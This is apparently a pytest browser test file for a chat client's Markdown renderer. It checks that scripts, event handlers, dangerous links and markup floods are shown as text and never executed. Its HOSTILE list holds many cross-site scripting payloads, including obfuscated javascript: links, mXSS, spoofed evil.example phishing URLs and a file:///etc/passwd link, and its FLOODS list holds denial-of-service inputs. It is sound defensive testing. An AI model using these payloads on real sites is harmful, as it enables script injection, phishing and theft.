"""The web client's Markdown renderer in a real browser: whatever text comes in, nothing runs.

Answers quote web pages, mail and vendors' data, so their text is an attacker's. The page here has
no Content-Security-Policy: the renderer must hold by itself.
"""

from __future__ import annotations

from typing import Any

import pytest

ELEMENTS = {
    "A",
    "BLOCKQUOTE",
    "BR",
    "BUTTON",
    "CODE",
    "DEL",
    "DIV",
    "EM",
    "FIGCAPTION",
    "FIGURE",
    "H3",
    "H4",
    "H5",
    "H6",
    "HR",
    "INPUT",
    "LI",
    "OL",
    "P",
    "PRE",
    "SPAN",
    "STRONG",
    "TABLE",
    "TBODY",
    "TD",
    "TH",
    "THEAD",
    "TR",
    "UL",
}
ATTRIBUTES = {
    "aria-label",
    "checked",
    "class",
    "dir",
    "disabled",
    "href",
    "rel",
    "role",
    "start",
    "tabindex",
    "target",
    "title",
    "type",
}
RUN = "window.ran=1"
HOSTILE = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f"<svg/onload={RUN}><iframe src=javascript:{RUN}>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"**bold <img src=x onerror={RUN}>** and `<svg onload={RUN}>`",
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](<java\nscript:{RUN}>)",
    f"[x](\x01javascript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](vbscript:{RUN}) [y](blob:null/1) [z](file:///etc/passwd) [w](filesystem:x)",
    f"<javascript:{RUN}> <data:text/html,{RUN}>",
    "[x](//evil.example/) [y](/account/delete) [z](?q=1) [w](#token=1)",
    "[bank](https://bank.example@evil.example/) <https://user:secret@evil.example/>",
    f'[x](https://e.example/ "\' onmouseover={RUN} x=")',
    f'[x](https://e.example/"onmouseover={RUN})',
    f'![x](https://e.example/leak?q=secret) ![y](x"onerror="{RUN})',
    f"![a](javascript:{RUN}) [![b](https://e.example/p.png)](javascript:{RUN})",
    f"[a [b](https://e.example/b) c](javascript:{RUN})",
    f'```html" onmouseover="{RUN}\n</code></pre><script>{RUN}</script>\n```',
    f"```\n</pre><img src=x onerror={RUN}>",
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| [x](javascript:{RUN}) | <script>{RUN} |",
    f"> # <svg onload={RUN}>\n> - [ ] <input autofocus onfocus={RUN}>",
    f"# <h1 onclick={RUN}>\n1. <form action=javascript:{RUN}><button>\n<style>*{{left:0}}</style>",
    "<base href=https://e.example/><meta http-equiv=refresh content='0;url=https://e.example/'>",
    f"&lt;img src=x onerror={RUN}&gt; &amp;lt;script&amp;gt;",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
    "[\u202egpj.exe](https://e.example/)\x00<\x00script>",
    "__proto__ constructor {{7*7}} ${window.ran=1} <%= 1 %>",
)
LONG = 60_000
FLOODS = (
    "[" * LONG,
    "](" * (LONG // 2),
    "[](" * (LONG // 3),
    "![" * (LONG // 2),
    "*" * LONG,
    "*a " * (LONG // 3),
    "**a*" * (LONG // 4),
    "_a" * (LONG // 2),
    "`a``" * (LONG // 4),
    "> " * (LONG // 2),
    "- " * (LONG // 2),
    "-" + " " * LONG + "x",
    "|" * LONG,
    "a|b\n-" + " " * LONG + "x",
    "<" * LONG,
    "https://" * (LONG // 8),
    "&" * LONG,
    "(" * LONG,
    "[a](" + "(" * LONG,
    "\n- a" * (LONG // 4),
    "~~a" * (LONG // 3),
    "#" * LONG,
    "[" + "a-" * (LONG // 2) + "](https://e.example)",
)
INSPECT = """async ({texts, piece}) => {
  const { MarkdownStream, renderMarkdown } = await import("/static/markdown.js");
  const out = document.getElementById("out");
  const seen = { elements: new Set(), attributes: new Set(), links: [], text: [] };
  for (const text of texts) {
    out.replaceChildren();
    if (piece) {
      const stream = new MarkdownStream(out);
      for (let at = 0; at < text.length; at += piece) {
        stream.append(text.slice(at, at + piece));
        stream.render();
      }
    } else out.append(renderMarkdown(text));
    for (const element of out.querySelectorAll("*")) {
      seen.elements.add(element.tagName);
      for (const { name } of element.attributes) seen.attributes.add(name);
      if (element.tagName === "A") seen.links.push([element.href, element.rel, element.target]);
      for (const event of ["mouseover", "focus", "error", "load", "toggle"]) {
        element.dispatchEvent(new Event(event));
      }
      if (element.tagName === "A") {
        element.addEventListener("click", (event) => event.preventDefault());
        element.click();
      }
    }
    seen.text.push(out.innerText);
  }
  return { ...seen, elements: [...seen.elements], attributes: [...seen.attributes],
           ran: window.ran ?? null, place: location.href, style: document.styleSheets.length };
}"""
STREAMED = """async (text) => {
  const { MarkdownStream, renderMarkdown } = await import("/static/markdown.js");
  const whole = document.createElement("div");
  whole.append(renderMarkdown(text));
  const differing = [];
  for (const piece of [1, 2, 3, 7, 40]) {
    const box = document.createElement("div");
    const stream = new MarkdownStream(box);
    for (let at = 0; at < text.length; at += piece) {
      stream.append(text.slice(at, at + piece));
      stream.render();
    }
    if (box.innerHTML !== whole.innerHTML) differing.push([piece, box.innerHTML]);
  }
  return { differing, html: whole.innerHTML };
}"""
RENDER = """async (text) => {
  const { renderMarkdown } = await import("/static/markdown.js");
  return renderMarkdown(text).childNodes.length;
}"""
DOCUMENT = """# Plan for **Thursday**
Some *soft* text with `code` and a
line break, snake_case_name, 2 * 3 * 4 and ~~gone~~.

1. First
   - inner one
   - inner [two](https://example.org/a_(b))
2. Second

   more of it
3. Third
- [x] done
- [ ] open

> quoted
> - list in it

| Left | Right |
|:-----|------:|
| a \\| b | **1** |

```python
print("<b>")

x = 1
```
---
See https://example.org/x?y=1, or <mailto:hello@example.org>.
"""


@pytest.mark.parametrize("piece", [0, 1, 5], ids=["whole", "by character", "by five"])
def test_hostile_text_never_runs_loads_or_leads_astray(page: Any, piece: int) -> None:
    """Scripts, handlers, images and disguised addresses in an answer are shown, never acted on."""
    before, asked = page.url, []
    page.on("request", lambda request: asked.append(request.url))
    found = page.evaluate(INSPECT, {"texts": list(HOSTILE), "piece": piece})

    assert found["ran"] is None
    assert page.evaluate("window.ran ?? null") is None
    assert found["place"] == before
    assert found["style"] == 0
    assert set(found["elements"]) <= ELEMENTS
    assert set(found["attributes"]) <= ATTRIBUTES
    for address, rel, target in found["links"]:
        assert address.startswith("https://e.example/"), address
        assert (rel, target) == ("noopener noreferrer nofollow", "_blank")
    assert all(url.startswith(f"{before}static/") for url in asked), asked
    assert found["text"][0] == HOSTILE[0], "a script is readable text"


def test_a_link_that_names_another_host_shows_its_own(page: Any) -> None:
    """A label that looks like an address of another site gets the true host beside it."""
    text = (
        "[https://bank.example/login](https://evil.example/) [www.ok.example](https://ok.example/)"
    )
    found = page.evaluate(INSPECT, {"texts": [text], "piece": 0})

    assert found["text"] == ["https://bank.example/login (evil.example) www.ok.example"]


def test_floods_of_markup_do_not_hang_the_page(page: Any) -> None:
    """Tens of thousands of openers without closers render before the browser's patience ends."""
    for flood in FLOODS:
        shown = page.evaluate(RENDER, flood)
        assert shown >= 1, flood[:8]


def test_streaming_ends_with_what_rendering_at_once_gives(page: Any) -> None:
    """However the text is cut into deltas, the finished answer looks the same."""
    found = page.evaluate(STREAMED, DOCUMENT)

    assert found["differing"] == []
    for part in (
        '<h3 dir="auto">Plan for <strong>Thursday</strong></h3>',
        "<em>soft</em>",
        "snake_case_name, 2 * 3 * 4 and <del>gone</del>",
        '<td class="align-end" dir="auto">',
        "a | b",
        'print("&lt;b&gt;")\n\nx = 1',
        'href="https://example.org/a_(b)"',
        'href="mailto:hello@example.org"',
        "<hr>",
        'href="https://example.org/x?y=1"',
    ):
        assert part in found["html"], part
